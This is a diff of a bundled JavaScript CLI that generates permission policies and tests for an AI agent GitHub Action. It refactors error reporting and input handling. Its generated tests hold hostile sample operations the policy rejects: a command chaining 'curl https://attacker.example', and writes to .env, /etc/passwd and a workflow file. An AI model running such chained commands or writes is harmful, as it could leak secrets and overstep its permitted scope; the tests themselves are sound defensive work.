@@ -1,14 +1,68 @@
 export const id = 6746;
 export const ids = [6746];
 export const modules = {
+	51612: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
+		__webpack_require__.d(__webpack_exports__, {
+			FO: () => exitCodeOf,
+			XS: () => callFlag,
+			c7: () => systemCodeOf,
+			x5: () => refusal,
+			xV: () => reportFailure
+		});
+		var _errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(452), _inputs_definitions_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(63683), _inputs_given_js__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(43072), _log_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(97309), _command_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(99859), _json_text_js__WEBPACK_IMPORTED_MODULE_6__ = __webpack_require__(52604), _screen_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(21264);
+		function refusal(code, source, message, cause) {
+			return new _errors_js__WEBPACK_IMPORTED_MODULE_0__.dz(code, message, {
+				source,
+				cause
+			});
+		}
+		let usageCodes = new Set([
+			"input_invalid",
+			"input_missing",
+			"input_conflict",
+			"policy_missing",
+			"policy_invalid",
+			"config_invalid"
+		]), accessCodes = /^(?:identity|exchange|api|intern)_/;
+		function exitCodeOf(error) {
+			return error.code === "cancelled" ? _command_js__WEBPACK_IMPORTED_MODULE_1__.An : error.code === "safety_limit_broken" ? _command_js__WEBPACK_IMPORTED_MODULE_1__.Lk : usageCodes.has(error.code) ? _command_js__WEBPACK_IMPORTED_MODULE_1__.rP : 1;
+		}
+		let callFlag = (name) => `--${name}`;
+		function callOnCommandLine({ inputs = [], flags = [], arguments: words = [] }) {
+			let names = [...inputs, ...flags.map(({ name }) => name)];
+			return (name, isFirst) => names.includes(name) ? callFlag(name, isFirst) : words.find(({ input }) => input === name)?.name ?? name.toUpperCase();
+		}
+		function strayVariable(wanted, { env }) {
+			let plain = (name) => name.toUpperCase().replace(/^INTERNS?_?/, "").replaceAll("_", "");
+			return Object.keys(env).find((name) => /^interns?_/i.test(name) && name !== wanted && plain(name) === plain(wanted));
+		}
+		function reportFailure(thrown, command, json, io) {
+			let error = (0, _errors_js__WEBPACK_IMPORTED_MODULE_0__.on)(thrown), call = callOnCommandLine(command);
+			(0, _screen_js__WEBPACK_IMPORTED_MODULE_2__.qz)(io, `interns ${command.name}: ${(0, _log_js__WEBPACK_IMPORTED_MODULE_3__.TN)((0, _errors_js__WEBPACK_IMPORTED_MODULE_0__.Uc)(thrown, call))} (${error.code})`);
+			let source = error.data.source ?? "", input = error.code === "input_missing" && (0, _inputs_definitions_js__WEBPACK_IMPORTED_MODULE_4__.wp)(source) ? source : void 0;
+			if ((0, _inputs_definitions_js__WEBPACK_IMPORTED_MODULE_4__.wp)(source) && _inputs_definitions_js__WEBPACK_IMPORTED_MODULE_4__.Z$[source].where !== "action" && (io.env[(0, _inputs_given_js__WEBPACK_IMPORTED_MODULE_5__.Iw)(source)] ?? "") !== "") (0, _screen_js__WEBPACK_IMPORTED_MODULE_2__.qz)(io, `  Without the flag, ${(0, _inputs_given_js__WEBPACK_IMPORTED_MODULE_5__.Iw)(source)} of the environment counts.`);
+			else if (input !== void 0) {
+				let stray = strayVariable((0, _inputs_given_js__WEBPACK_IMPORTED_MODULE_5__.Iw)(input), io);
+				stray === void 0 ? (0, _screen_js__WEBPACK_IMPORTED_MODULE_2__.qz)(io, `  It may also be set in the environment, as ${(0, _inputs_given_js__WEBPACK_IMPORTED_MODULE_5__.Iw)(input)}.`) : (0, _screen_js__WEBPACK_IMPORTED_MODULE_2__.qz)(io, `  ${stray} is set, which nothing reads. Did you mean ${(0, _inputs_given_js__WEBPACK_IMPORTED_MODULE_5__.Iw)(input)}?`);
+			}
+			for (let { name: claim, value } of error.data.unverifiedClaims ?? []) (0, _screen_js__WEBPACK_IMPORTED_MODULE_2__.qz)(io, `  ${claim}: ${(0, _log_js__WEBPACK_IMPORTED_MODULE_3__.TN)(value ?? "absent")} (unverified)`);
+			for (let remark of error.data.remarks ?? []) (0, _screen_js__WEBPACK_IMPORTED_MODULE_2__.qz)(io, `  ${(0, _log_js__WEBPACK_IMPORTED_MODULE_3__.TN)(remark)}`);
+			return (input !== void 0 || accessCodes.test(error.code)) && (0, _screen_js__WEBPACK_IMPORTED_MODULE_2__.qz)(io, "  \"interns doctor\" says what to fix."), json && io.stdout(`${(0, _json_text_js__WEBPACK_IMPORTED_MODULE_6__.jj)({ error: {
+				code: error.code,
+				message: error.messageFor(call)
+			} })}\n`), exitCodeOf(error);
+		}
+		function systemCodeOf(error) {
+			if (error instanceof Error) return "syscall" in error && "code" in error && typeof error.code == "string" ? error.code : systemCodeOf(error.cause);
+		}
+	}),
 	36746: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
 		__webpack_require__.r(__webpack_exports__), __webpack_require__.d(__webpack_exports__, {
 			findExisting: () => findExisting,
-			runInit: () => runInit,
 			runInitCommand: () => runInitCommand,
 			writeFiles: () => writeFiles
 		});
-		var promises_ = __webpack_require__(51455), external_node_path_ = __webpack_require__(76760), errors = __webpack_require__(452), folders = __webpack_require__(92782), log = __webpack_require__(97309), file_shape = __webpack_require__(68606), starter = __webpack_require__(94780), command = __webpack_require__(99859), json_text = __webpack_require__(52604), screen = __webpack_require__(21264), base_url = __webpack_require__(46337), definitions = __webpack_require__(63683), invisible = __webpack_require__(71376), wording = __webpack_require__(96559);
+		var promises_ = __webpack_require__(51455), external_node_path_ = __webpack_require__(76760), errors = __webpack_require__(452), folders = __webpack_require__(92782), log = __webpack_require__(97309), file_shape = __webpack_require__(68606), starter = __webpack_require__(94780), command = __webpack_require__(99859), json_text = __webpack_require__(52604), screen = __webpack_require__(21264), base_url = __webpack_require__(46337), definitions = __webpack_require__(63683), invisible = __webpack_require__(71376), wording = __webpack_require__(96559), failure = __webpack_require__(51612);
 		let triggers = [
 			"pull_request",
 			"issue_comment",
@@ -56,55 +110,38 @@ export const modules = {
 			return text;
 		}
 		function invalid(flag, text, remedy) {
-			return new errors.dz("input_invalid", (0, wording.MH)`${(0, wording.hF)(flag)} is ${JSON.stringify(text)}. ${remedy}`, { source: flag });
+			return (0, failure.x5)("input_invalid", flag, (0, wording.MH)`${(0, wording.hF)(flag)} is ${JSON.stringify(text)}. ${remedy}`);
 		}
-		function readGivenAnswers(flags) {
-			let { baseUrl, federationPolicyId, intern, on, allow, edit } = flags;
+		function readGivenAnswers({ given, value, values }) {
+			let [use, trigger] = [value("for"), value("on")], [baseUrl, policyId, intern] = [
+				given("base-url"),
+				given("federation-policy-id"),
+				given("intern")
+			], [allow, edit] = [values("allow"), values("edit")];
 			return {
-				...flags.for === void 0 ? {} : { use: readAnswer.use(flags.for) },
+				...use === void 0 ? {} : { use: readAnswer.use(use) },
 				...baseUrl === void 0 ? {} : { baseUrl: readAnswer.baseUrl(baseUrl) },
-				...federationPolicyId === void 0 ? {} : { federationPolicyId: readAnswer.federationPolicyId(federationPolicyId) },
+				...policyId === void 0 ? {} : { federationPolicyId: readAnswer.federationPolicyId(policyId) },
 				...intern === void 0 ? {} : { intern: readAnswer.intern(intern) },
-				...on === void 0 ? {} : { trigger: readAnswer.trigger(on) },
+				...trigger === void 0 ? {} : { trigger: readAnswer.trigger(trigger) },
 				...allow.length === 0 ? {} : { commands: [...new Set(allow.flatMap(splitCommands).map(readAnswer.command))] },
 				...edit.length === 0 ? {} : { paths: [...new Set(edit.flatMap(splitPaths).map(readAnswer.path))] }
 			};
 		}
-		function refuseSurplus({ trigger, commands, paths }, use, asks) {
-			let given = {
-				trigger,
-				commands,
-				paths
-			}, flags = {
-				trigger: "on",
-				commands: "allow",
-				paths: "edit"
-			};
-			for (let name of [
-				"trigger",
-				"commands",
-				"paths"
-			]) if (!(given[name] === void 0 || asks.includes(name))) throw new errors.dz("input_conflict", (0, wording.MH)`${(0, wording.hF)(flags[name])} has no meaning for ${JSON.stringify(use)}. Leave it out.`, { source: flags[name] });
+		function refuseSurplus(given, use) {
+			for (let [name, flag] of [
+				["trigger", "on"],
+				["commands", "allow"],
+				["paths", "edit"]
+			]) {
+				if (given[name] === void 0 || useFacts[use].asks.includes(name)) continue;
+				let words = (0, wording.MH)`${(0, wording.hF)(flag)} has no meaning for ${JSON.stringify(use)}. Leave it out.`;
+				throw (0, failure.x5)("input_conflict", flag, words);
+			}
 		}
 		function readRepositoryName(text) {
 			if (!/^[\w-]+\/[\w.-]+$/.test(text)) throw invalid("repository", text, "Use the form \"owner/name\".");
 			return text;
-		}
-		function readFlags({ given, value, values, has }) {
-			return {
-				for: value("for"),
-				baseUrl: given("base-url"),
-				federationPolicyId: given("federation-policy-id"),
-				intern: given("intern"),
-				on: value("on"),
-				allow: values("allow"),
-				edit: values("edit"),
-				repository: value("repository"),
-				yes: has("yes"),
-				force: has("force"),
-				keep: has("keep"),
-				json: has("json")
-			};
 		}
 		function meantInstead(baseUrl) {
 			return (0, base_url.Y)(baseUrl.replace(/\/+$/, ""));
@@ -197,43 +234,104 @@ ${tests(answers).join("\n")}`;
 			return `${rule("edit-files", "/paths")}\n\n${rule("edit-files-inside", "/inside")}`;
 		}
 		function tests({ trigger, commands, paths }) {
-			let own = `{ event: ${trigger}, fork: false, actor: { permission: write } }`, [first = "npm test"] = commands, sample = (path) => path.replace("**", "some-file"), allowed = [
-				...commands.map((command) => shellTest(`it may run ${command}`, own, command, "allow_once, rule: run-commands")),
-				...paths.map((path) => pathTest(`it may edit ${path}`, own, sample(path), "allow_once, rule: edit-files")),
-				...paths.slice(0, 1).map((path) => agentTest("a real agent may as well", own, { inside: sample(path) }, "allow_once, rule: edit-files-inside"))
-			], refused = [
-				shellTest("no other command rides along", own, `${first}; curl https://attacker.example`, "reject_once, rule: default"),
+			let own = `{ event: ${trigger}, fork: false, actor: { permission: write } }`, [first = "npm test"] = commands, sample = (path) => path.replace("**", "some-file"), [edited] = paths.map(sample);
+			return [
+				...commands.map((one) => [
+					`it may run ${one}`,
+					own,
+					shell(one),
+					"allow_once, rule: run-commands"
+				]),
+				...paths.map((one) => [
+					`it may edit ${one}`,
+					own,
+					write(sample(one)),
+					"allow_once, rule: edit-files"
+				]),
+				...edited === void 0 ? [] : agentTests(own, edited),
+				[
+					"no other command rides along",
+					own,
+					shell(`${first}; curl https://attacker.example`),
+					refused
+				],
 				...commands.length === 0 ? [] : placeTests(own, first),
 				...paths.length === 0 ? [] : workflowTests(own),
-				pathTest("nothing outside is edited", own, "some-other-folder/.env", "reject_once, rule: default"),
-				shellTest("a fork gets nothing", "{ event: pull_request, fork: true, actor: { permission: write } }", first, "reject_once, rule: never-from-forks"),
-				shellTest("on a laptop a person is asked", "{}", first, "reject_once, rule: default")
-			];
-			return [...allowed, ...refused];
+				[
+					"nothing outside is edited",
+					own,
+					write("some-other-folder/.env"),
+					refused
+				],
+				[
+					"a fork gets nothing",
+					"{ event: pull_request, fork: true, actor: { permission: write } }",
+					shell(first),
+					"reject_once, rule: never-from-forks"
+				],
+				[
+					"on a laptop a person is asked",
+					"{}",
+					shell(first),
+					refused
+				]
+			].map(toTest);
+		}
+		let refused = "reject_once, rule: default";
+		function agentTests(context, path) {
+			return [[
+				"a real agent may as well",
+				context,
+				writeInside(path),
+				"allow_once, rule: edit-files-inside"
+			]];
 		}
 		function placeTests(context, command) {
-			let operation = `operation: ${quoted(`shell command: ${command}`)}`, refused = "reject_once, rule: default";
-			return [test("not in another folder", context, `${operation}, inside: [some-other-folder]`, refused), test("nor with variables of its own", context, `${operation}, env: { PATH: some-other-folder }`, refused)];
+			return [[
+				"not in another folder",
+				context,
+				`${shell(command)}, inside: [some-other-folder]`,
+				refused
+			], [
+				"nor with variables of its own",
+				context,
+				`${shell(command)}, env: { PATH: some-other-folder }`,
+				refused
+			]];
 		}
 		function workflowTests(context) {
-			let path = ".github/workflows/ci.yml", guard = "never-touch-workflows";
+			let path = ".github/workflows/ci.yml", guard = "never-touch-workflows", outside = `${write("/etc/passwd")}, outside: ["/etc/passwd"]`;
 			return [
-				pathTest("a workflow stops the run", context, path, `stop, rule: ${guard}`),
-				agentTest("so does that of a real agent", context, { inside: path }, `stop, rule: ${guard}-inside`),
-				agentTest("and a file that is elsewhere", context, { outside: "/etc/passwd" }, "stop, rule: nothing-outside")
+				[
+					"a workflow stops the run",
+					context,
+					write(path),
+					`stop, rule: ${guard}`
+				],
+				[
+					"so does that of a real agent",
+					context,
+					writeInside(path),
+					`stop, rule: ${guard}-inside`
+				],
+				[
+					"and a file that is elsewhere",
+					context,
+					outside,
+					"stop, rule: nothing-outside"
+				]
 			];
 		}
-		function agentTest(name, context, lies, expected) {
-			let [[where, path] = ["", ""]] = Object.entries(lies);
-			return test(name, context, `operation: fs.write, paths: [${quoted(where === "inside" ? `/work/app/${path}` : path)}], ${where}: [${quoted(path)}]`, expected);
+		function shell(command) {
+			return `operation: ${quoted(`shell command: ${command}`)}`;
 		}
-		function shellTest(name, context, command, expected) {
-			return test(name, context, `operation: ${quoted(`shell command: ${command}`)}`, expected);
+		function write(path) {
+			return `operation: fs.write, paths: [${quoted(path)}]`;
 		}
-		function pathTest(name, context, path, expected) {
-			return test(name, context, `operation: fs.write, paths: [${quoted(path)}]`, expected);
+		function writeInside(path) {
+			return `${write(`/work/app/${path}`)}, inside: [${quoted(path)}]`;
 		}
-		function test(name, context, pause, expected) {
+		function toTest([name, context, pause, expected]) {
 			return `  - name: ${quoted(name)}
     context: ${context}
     pause: { kind: permission, ${pause}, options: [allow_once, reject_once] }
@@ -251,33 +349,25 @@ ${tests(answers).join("\n")}`;
 			if (reason !== void 0) throw new errors.pn("policy_invalid", `The answers do not make a safe policy. ${reason}`, { source: path });
 		}
 		function quoted(text) {
-			return (0, json_text.u)(JSON.stringify(text));
+			return (0, json_text.u5)(JSON.stringify(text));
 		}
 		async function readCommand(text) {
-			let command = readAnswer.command(text);
-			return checkEntry("allow", command, {
-				...nothing,
-				commands: [command]
-			});
+			return checkEntry("allow", text, { commands: [readAnswer.command(text)] });
 		}
 		async function readPath(text) {
-			let path = readAnswer.path(text);
-			return checkEntry("edit", path, {
-				...nothing,
-				paths: [path]
-			});
+			return checkEntry("edit", text, { paths: [readAnswer.path(text)] });
 		}
 		async function checkGivenEntries({ commands = [], paths = [] }) {
 			for (let command of commands) await readCommand(command);
 			for (let path of paths) await readPath(path);
 		}
-		let nothing = {
-			trigger: "pull_request",
-			commands: [],
-			paths: []
-		};
-		async function checkEntry(flag, text, answers) {
-			let reason = await whyNotPolicy(toPolicyText(answers), starter.r2);
+		async function checkEntry(flag, text, entry) {
+			let reason = await whyNotPolicy(toPolicyText({
+				trigger: "pull_request",
+				commands: [],
+				paths: [],
+				...entry
+			}), starter.r2);
 			if (reason !== void 0) throw invalid(flag, text, reason);
 			return text;
 		}
@@ -355,22 +445,18 @@ ${tests(answers).join("\n")}`;
 				flag: "on",
 				help: helps.trigger
 			}),
-			commands: (asker) => {
-				let read = async (text) => Promise.all(splitCommands(text).map(readCommand));
-				return askList(asker, {
-					question: "Commands that it may run, one a line, for example npm test. An empty line ends them.",
-					read,
-					help: helps.commands
-				});
-			},
-			paths: (asker) => {
-				let read = async (text) => Promise.all(splitPaths(text).map(readPath));
-				return askList(asker, {
-					question: "Paths that it may edit, one a line, for example src/**. An empty line ends them.",
-					read,
-					help: helps.paths
-				});
-			}
+			commands: (asker) => askList(asker, {
+				question: "Commands that it may run, one a line, for example npm test. An empty line ends them.",
+				split: splitCommands,
+				read: readCommand,
+				help: helps.commands
+			}),
+			paths: (asker) => askList(asker, {
+				question: "Paths that it may edit, one a line, for example src/**. An empty line ends them.",
+				split: splitPaths,
+				read: readPath,
+				help: helps.paths
+			})
 		};
 		async function askYesNo(asker, question, preset) {
 			return await ask(asker, `${question} [${preset ? "Y/n" : "y/N"}] > `, (text) => {
@@ -398,11 +484,11 @@ ${tests(answers).join("\n")}`;
 			};
 			return ask(asker, `[1-${names.length}, empty: 1] > `, read, help);
 		}
-		async function askList(asker, { question, read, help }) {
+		async function askList(asker, { question, split, read, help }) {
 			(0, screen.qz)(asker.io, question);
 			let answers = new Set(), readLines = async (text) => {
 				let lines = text.split("\n").map((line) => line.trim());
-				return (await Promise.all(lines.filter((line) => line !== "").map(read))).flat();
+				return Promise.all(lines.filter((line) => line !== "").flatMap(split).map(read));
 			};
 			for (;;) {
 				let entries = await ask(asker, "  > ", readLines, help);
@@ -476,22 +562,22 @@ ${tests(answers).join("\n")}`;
 				...answers.use === "keys" ? keyLines(place) : [],
 				...variable(answers, place),
 				"",
-				...commitLines(answers),
+				`Before the first release of intern-action there is no tag v1. Until then, put a commit in place of COMMIT in ${useFacts[answers.use].workflow}. In your clone of intern-action, this prints one:`,
+				"  $ git rev-parse HEAD",
 				"",
 				...lastSteps(answers, place)
 			].join("\n");
 		}
 		function keptLines(kept, lack, { trigger }) {
-			return kept.length === 0 ? [] : [`Kept as it was: ${kept.join(", ")}.`, ...lackLines(lack, trigger)];
-		}
-		function lackLines(lack, trigger) {
-			return lack === void 0 ? ["The policy that is there is invalid: \"interns policy check\" says why."] : lack.length === 0 ? [] : [`On ${trigger} an intern may not yet ${lack.map(log.TN).join(", ")}. Copy the rules and tests for that from the policy above.`];
+			if (kept.length === 0) return [];
+			let lines = [`Kept as it was: ${kept.join(", ")}.`];
+			if (lack === void 0) return [...lines, "The policy that is there is invalid: \"interns policy check\" says why."];
+			if (lack.length === 0) return lines;
+			let missing = `On ${trigger} an intern may not yet ${lack.map(log.TN).join(", ")}.`;
+			return [...lines, `${missing} Copy the rules and tests for that from the policy above.`];
 		}
 		function variable(answers, { repository }) {
 			return !exchangesIdentity(answers.use) || answers.federationPolicyId !== void 0 ? [] : ["The administrator tells you the id of the federation policy. Put it in place of ID:", `  $ gh variable set INTERNS_FEDERATION_POLICY_ID --body ID --repo ${repository}`];
-		}
-		function commitLines({ use }) {
-			return [`Before the first release of intern-action there is no tag v1. Until then, put a commit in place of COMMIT in ${useFacts[use].workflow}. In your clone of intern-action, this prints one:`, "  $ git rev-parse HEAD"];
 		}
 		function lastSteps({ use, trigger, baseUrl }, { repository, branch }) {
 			let byHand = `  $ gh workflow run ${external_node_path_.basename(useFacts[use].workflow)} --repo ${repository}`;
@@ -553,40 +639,38 @@ ${tests(answers).join("\n")}`;
 		}
 		var repository = __webpack_require__(16357);
 		async function runInitCommand(asked) {
-			return runInit(readFlags(asked), asked.io, await asked.openJob());
-		}
-		async function runInit(flags, io, job) {
+			let job = await asked.openJob();
 			try {
-				return await askAndWrite(flags, io, job);
+				return await askAndWrite(asked, job);
 			} catch (error) {
-				throw job.signal.aborted && (0, screen.qz)(io, "Nothing was written."), error;
+				throw job.signal.aborted && (0, screen.qz)(asked.io, "Nothing was written."), error;
 			}
 		}
-		async function askAndWrite(flags, io, job) {
-			let found = await (0, repository.J4)(job), given = readGivenAnswers(flags);
-			await checkGivenEntries(given), warnOfBaseUrl(given.baseUrl, io);
-			let local = flags.repository === void 0 ? found : {
+		async function askAndWrite(asked, job) {
+			let { io, has, value } = asked, found = await (0, repository.J4)(job), given = readGivenAnswers(asked);
+			await checkGivenEntries(given), given.baseUrl !== void 0 && warnOfBaseUrl(given.baseUrl, io);
+			let named = value("repository"), local = named === void 0 ? found : {
 				...found,
-				fullName: readRepositoryName(flags.repository)
-			}, { terminal } = io, asker = terminal?.canAsk === !0 && !flags.yes && !flags.json ? {
+				fullName: readRepositoryName(named)
+			}, { terminal } = io, asker = terminal?.canAsk === !0 && !has("yes") && !has("json") ? {
 				io,
 				terminal,
 				signal: job.signal
 			} : void 0, answers = asker === void 0 ? complete(given) : await askAnswers(given, asker);
-			if (answers === void 0) return init_nothing(io);
-			refuseSurplus(given, answers.use, useFacts[answers.use].asks);
+			if (answers === void 0) return nothing(io);
+			refuseSurplus(given, answers.use);
 			let files = await toFiles(answers, local.branch), existing = await findExisting(local.root, files), federation = exchangesIdentity(answers.use) ? toFederationPolicy(answers, local) : void 0;
-			flags.json || show(files, io);
-			let kept = await askWhatToKeep(files, existing, flags, asker);
-			if (kept === void 0) return init_nothing(io);
+			has("json") || show(files, io);
+			let kept = await askWhatToKeep(files, existing, asked, asker);
+			if (kept === void 0) return nothing(io);
 			let others = files.filter((file) => !kept.includes(file.path));
 			await writeFiles(local.root, others, existing);
 			let lack = await lackOf(files, kept, local.root);
-			return flags.json ? io.stdout(`${(0, json_text.j)({
+			return has("json") ? (0, json_text.Q2)(io, {
 				files,
 				kept,
 				federation_policy: federation ?? null
-			}, 2)}\n`) : (0, screen.qz)(io, whatNext(answers, {
+			}) : (0, screen.qz)(io, whatNext(answers, {
 				federation,
 				local,
 				kept,
@@ -594,7 +678,7 @@ ${tests(answers).join("\n")}`;
 			})), 0;
 		}
 		function warnOfBaseUrl(baseUrl, io) {
-			let meant = baseUrl === void 0 ? void 0 : meantInstead(baseUrl);
+			let meant = meantInstead(baseUrl);
 			if (meant === void 0) return;
 			let said = `Warning: the base URL is ${JSON.stringify(baseUrl)}. Did you mean ${JSON.stringify(meant)}?`;
 			(0, screen.qz)(io, `${said} The base URL of an Intern Service ends in a version segment.`);
@@ -646,27 +730,34 @@ ${tests(answers).join("\n")}`;
 			let policy = files.find((file) => file.path === starter.r2 && kept.includes(file.path));
 			return policy === void 0 ? [] : findLack(external_node_path_.join(root, policy.path), policy.content);
 		}
-		async function askWhatToKeep(files, existing, flags, asker) {
-			let { force, keep } = flags, theirs = existing.filter(({ isTheirs }) => isTheirs).map((found) => found.path), kept = existing.filter(({ staysAsItIs }) => staysAsItIs).map((found) => found.path);
+		async function askWhatToKeep(files, existing, { has }, asker) {
+			let [force, keep] = [has("force"), has("keep")], theirs = existing.filter(({ isTheirs }) => isTheirs).map((found) => found.path), kept = existing.filter(({ staysAsItIs }) => staysAsItIs).map((found) => found.path);
 			if (force && keep) throw new errors.dz("input_conflict", "Give --force or --keep, not both.");
-			if (asker === void 0) return refuseToAsk(theirs, flags), keep ? [...kept, ...theirs] : kept;
+			if (asker === void 0) {
+				if (theirs.length > 0 && !force && !keep) {
+					let there = `${theirs.join(" and ")} ${theirs.length === 1 ? "is" : "are"} there already, with other content.`;
+					throw new errors.dz("input_conflict", `${there} Give --keep to write only the others, or --force to replace.`);
+				}
+				if (!has("yes")) {
+					let why = has("json") ? " under --json" : "";
+					throw new errors.dz("input_missing", `Nobody can be asked${why}. Give --yes to write the files.`);
+				}
+				return keep ? [...kept, ...theirs] : kept;
+			}
 			for (let file of theirs) !keep && !force && (0, screen.qz)(asker.io, `${file} is there already, with other content.`), (keep || !(force || await askYesNo(asker, "Replace it?", !1))) && kept.push(file);
 			return files.every((file) => file.isGenerated === !0 || kept.includes(file.path)) ? void 0 : await askYesNo(asker, kept.length === 0 ? "Write these files?" : "Write the other files?", !0) ? kept : void 0;
 		}
-		function refuseToAsk(theirs, { yes, json, force, keep }) {
-			if (theirs.length > 0 && !force && !keep) {
-				let there = `${theirs.join(" and ")} ${theirs.length === 1 ? "is" : "are"} there already, with other content.`;
-				throw new errors.dz("input_conflict", `${there} Give --keep to write only the others, or --force to replace.`);
-			}
-			if (!yes) throw new errors.dz("input_missing", `Nobody can be asked${json ? " under --json" : ""}. Give --yes to write the files.`);
-		}
-		function init_nothing(io) {
+		function nothing(io) {
 			return (0, screen.qz)(io, "Nothing was written."), command.rP;
 		}
 		async function findExisting(root, files) {
 			let existing = [];
 			for (let file of files) {
-				for (let folder of foldersOf(file.path)) if ((await (0, promises_.lstat)(external_node_path_.join(root, folder)).catch(() => void 0))?.isDirectory() === !1) throw inTheWay(folder, "folder");
+				let names = file.path.split("/").slice(0, -1);
+				for (let index of names.keys()) {
+					let folder = names.slice(0, index + 1).join("/");
+					if ((await (0, promises_.lstat)(external_node_path_.join(root, folder)).catch(() => void 0))?.isDirectory() === !1) throw inTheWay(folder, "folder");
+				}
 				let target = external_node_path_.join(root, file.path), found = await (0, promises_.lstat)(target).catch(() => void 0);
 				if (found?.isFile() === !1) throw inTheWay(file.path, "file");
 				if (found === void 0) continue;
@@ -681,10 +772,6 @@ ${tests(answers).join("\n")}`;
 		}
 		async function holds(file, content) {
 			return (await (0, promises_.readFile)(file, "utf8").catch(() => void 0))?.replaceAll("\r\n", "\n") === content;
-		}
-		function foldersOf(file) {
-			let names = file.split("/").slice(0, -1);
-			return names.map((_, index) => names.slice(0, index + 1).join("/"));
 		}
 		function inTheWay(found, wanted) {
 			return new errors.dz("input_conflict", `${found} is there, and is no ${wanted} of its own. Remove it first.`);
@@ -733,15 +820,27 @@ ${tests(answers).join("\n")}`;
 	}),
 	52604: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
 		__webpack_require__.d(__webpack_exports__, {
-			j: () => toJsonText,
-			u: () => escapeActing
+			A$: () => printFound,
+			Q2: () => printJson,
+			jj: () => toJsonText,
+			u5: () => escapeActing,
+			uJ: () => toShellWord
 		});
 		let acting = /[\u007f-\u009f\p{Cf}\u2028\u2029]/gu, marker = /#(?=[^\x20-\x7e]*#[^\x20-\x7e]*\[)/gu;
 		function toJsonText(value, indent) {
 			return escapeActing(JSON.stringify(value, null, indent));
 		}
+		function printJson({ stdout }, value) {
+			stdout(`${toJsonText(value, 2)}\n`);
+		}
+		function printFound({ has, io }, { redactor }, found, inWords) {
+			io.stdout(redactor.redact(has("json") ? `${toJsonText(found, 2)}\n` : inWords()));
+		}
 		function escapeActing(json) {
 			return json.replace(marker, "\\u0023").replace(acting, (character) => Array.from({ length: character.length }, (_, index) => character.charCodeAt(index)).map((unit) => `\\u${unit.toString(16).padStart(4, "0")}`).join(""));
+		}
+		function toShellWord(text) {
+			return /^[\w./:@%+,-]+$/.test(text) ? text : `'${text.replaceAll("'", "'\\''")}'`;
 		}
 	}),
 	46337: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
@@ -754,6 +853,7 @@ ${tests(answers).join("\n")}`;
 	92782: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
 		__webpack_require__.d(__webpack_exports__, {
 			XF: () => readRegularFile,
+			f8: () => writeWhole,
 			wZ: () => makeFolders,
 			zC: () => isForEverybody
 		});
@@ -782,6 +882,64 @@ ${tests(answers).join("\n")}`;
 			} finally {
 				(0, node_fs__WEBPACK_IMPORTED_MODULE_0__.closeSync)(opened);
 			}
+		}
+		function writeWhole(path, content, mode = 384, put = node_fs__WEBPACK_IMPORTED_MODULE_0__.renameSync) {
+			let beside = (0, node_path__WEBPACK_IMPORTED_MODULE_1__.join)((0, node_path__WEBPACK_IMPORTED_MODULE_1__.dirname)(path), `.${globalThis.crypto.randomUUID()}`);
+			try {
+				(0, node_fs__WEBPACK_IMPORTED_MODULE_0__.writeFileSync)(beside, content, {
+					mode,
+					flag: "wx",
+					flush: !0
+				}), put(beside, path);
+			} finally {
+				(0, node_fs__WEBPACK_IMPORTED_MODULE_0__.rmSync)(beside, { force: !0 });
+			}
+		}
+	}),
+	43072: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
+		__webpack_require__.d(__webpack_exports__, {
+			HA: () => defaultOf,
+			HN: () => exclude,
+			Iw: () => envNameOf,
+			Pe: () => setting,
+			eS: () => readCliInputs,
+			f5: () => settingsOf,
+			lq: () => optional,
+			mw: () => required
+		});
+		var _wording_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(96559), _definitions_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(63683), _values_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(97035);
+		function notEmpty(text) {
+			return text === "" ? void 0 : text;
+		}
+		let defaultOf = (name) => {
+			let text = _definitions_js__WEBPACK_IMPORTED_MODULE_0__.Z$[name].default;
+			return text?.startsWith("${{") === !0 ? void 0 : text;
+		};
+		function setting(text, name) {
+			return _definitions_js__WEBPACK_IMPORTED_MODULE_0__.Z$[name].kind.read(name, text(name) ?? "");
+		}
+		function optional(text, name) {
+			let value = text(name);
+			return value === void 0 ? void 0 : _definitions_js__WEBPACK_IMPORTED_MODULE_0__.Z$[name].kind.read(name, value);
+		}
+		function settingsOf(text, names) {
+			let read = ([key, name]) => [key, _definitions_js__WEBPACK_IMPORTED_MODULE_0__.Z$[name].default === void 0 ? optional(text, name) : _definitions_js__WEBPACK_IMPORTED_MODULE_0__.Z$[name].kind.read(name, text(name) ?? "")];
+			return Object.fromEntries(Object.entries(names).map(read));
+		}
+		function required(text, name, what) {
+			let value = optional(text, name);
+			if (value !== void 0) return value;
+			throw (0, _values_js__WEBPACK_IMPORTED_MODULE_1__.LO)(name)`${(0, _wording_js__WEBPACK_IMPORTED_MODULE_2__.hF)(name)} is not given. Set it to ${what}.`;
+		}
+		function exclude(text, one, other) {
+			if (text(one) !== void 0 && text(other) !== void 0) throw (0, _values_js__WEBPACK_IMPORTED_MODULE_1__.hj)(other)`Both ${(0, _wording_js__WEBPACK_IMPORTED_MODULE_2__.hF)(one)} and ${(0, _wording_js__WEBPACK_IMPORTED_MODULE_2__.hF)(other)} are given. Use one of them.`;
+		}
+		function envNameOf(name) {
+			return `INTERNS_${name.replaceAll("-", "_").toUpperCase()}`;
+		}
+		function readCliInputs({ flags, env }) {
+			for (let name of _definitions_js__WEBPACK_IMPORTED_MODULE_0__.vj) if (_definitions_js__WEBPACK_IMPORTED_MODULE_0__.Z$[name].where === "action" && (env[envNameOf(name)] ?? "") !== "") throw (0, _values_js__WEBPACK_IMPORTED_MODULE_1__.hj)(name)`The environment variable ${envNameOf(name)} is set, but "${name}" works in the action only. Unset it.`;
+			return (name) => notEmpty(flags.get(name)) ?? notEmpty(env[envNameOf(name)]);
 		}
 	}),
